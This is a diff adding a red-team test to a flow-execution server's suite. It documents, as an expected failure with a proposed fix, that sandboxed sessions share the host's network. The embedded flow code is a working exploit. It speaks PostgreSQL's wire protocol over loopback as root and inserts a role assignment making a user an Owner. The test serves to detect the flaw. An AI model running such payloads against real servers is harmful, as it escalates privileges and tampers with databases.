@@ -406,3 +406,99 @@ def test_a_run_that_litters_its_folder_does_not_stall_the_server(server, bob, al
         assert cursor < 1024 * 1024, f"the run's cursor is {cursor} bytes"
     finally:
         bob.post("/api/flows/litter/session/stop", timeout=120)
+
+
+# --- 6. the session shares the host's network: every loopback service is in reach ---------
+
+PG_PY = '''\
+import socket, struct
+from promptflow.core import tool
+
+
+def message(kind, body):
+    return kind + struct.pack("!I", len(body) + 4) + body
+
+
+def read_until_ready(s):
+    seen, buf = [], b""
+    while True:
+        while len(buf) < 5:
+            chunk = s.recv(65536)
+            if not chunk:
+                return seen
+            buf += chunk
+        kind, size = buf[:1], struct.unpack("!I", buf[1:5])[0]
+        while len(buf) < 1 + size:
+            buf += s.recv(65536)
+        body, buf = buf[5:1 + size], buf[1 + size:]
+        seen.append((kind, body))
+        if kind in (b"Z",):
+            return seen
+
+
+@tool
+def echo(x: str) -> str:
+    """PostgreSQL's wire protocol, by hand (no driver in the image): as the server's database
+    user, on the host's loopback, which the session shares."""
+    database = x  # a real attacker lists pg_database first
+    s = socket.create_connection(("127.0.0.1", 5432), timeout=10)
+    params = b"user\\0root\\0database\\0" + database.encode() + b"\\0\\0"
+    body = struct.pack("!I", 196608) + params
+    s.sendall(struct.pack("!I", len(body) + 4) + body)
+    seen = read_until_ready(s)
+    if not seen or seen[0][0] != b"R" or seen[0][1][:4] != b"\\0\\0\\0\\0":
+        return "refused: " + repr(seen[:1])
+    sql = ("INSERT INTO role_assignments (\\"user\\", role, assigned_by, created_at) "
+           "VALUES ('bob', 'Owner', 'bob', 0)")
+    s.sendall(message(b"Q", sql.encode() + b"\\0"))
+    answer = read_until_ready(s)
+    return "owner now" if any(k == b"C" for k, _ in answer) else "failed: " + repr(answer)
+'''
+
+
+@pytest.fixture
+def pg_database():
+    try:
+        import psycopg
+
+        admin = psycopg.connect("host=127.0.0.1 port=5432 dbname=test user=root",
+                                autocommit=True, connect_timeout=3)
+    except Exception as exc:  # noqa: BLE001
+        pytest.skip(f"PostgreSQL on 127.0.0.1:5432 is not reachable: {exc}")
+    name = f"flowsession_redteam_{os.getpid()}"
+    admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
+    admin.execute(f'CREATE DATABASE "{name}"')
+    try:
+        yield name, f"postgresql+psycopg://root@127.0.0.1:5432/{name}"
+    finally:
+        admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
+        admin.close()
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "sessions share the host's network namespace (sandbox share_net): flow code reaches every "
+    "service bound to the host's loopback -- here the server's PostgreSQL, with the local "
+    "trust authentication the test setup itself uses -- and makes its user an Owner. Fix: "
+    "run sessions in their own network namespace (bwrap --unshare-net) with outbound access "
+    "through a user-mode stack that hides the host's loopback (pasta / slirp4netns "
+    "--disable-host-loopback) or an egress proxy, and say which in `session show`"))
+def test_flow_code_cannot_reach_the_servers_database_over_loopback(
+        tmp_path, images_dir, index, pg_database):
+    name, url = pg_database
+    srv = Server(tmp_path / "home", images_dir, index.url,
+                 env={"FLOWSESSION_DATABASE_URL": url})
+    try:
+        with api(srv, new_user(srv, "bob")) as bob:
+            r = bob.post("/api/flows", json={"name": "pg", "files": {
+                "flow.dag.yaml": ECHO_YAML, "echo.py": PG_PY}})
+            assert r.status_code == 201, r.text
+            r = bob.post("/api/flows/pg/test", json={"inputs": {"x": name}})
+            said = r.json().get("outputs", r.json())
+            # bob is still a Data Scientist: the users' list is not his to read
+            assert bob.get("/api/users").status_code == 403, said
+    finally:
+        srv.stop()
+        runtime = Settings(home=tmp_path / "home").runtime_dir
+        for pid in procs.with_argument_under(str(runtime)):
+            with contextlib.suppress(OSError):
+                os.kill(pid, signal.SIGKILL)
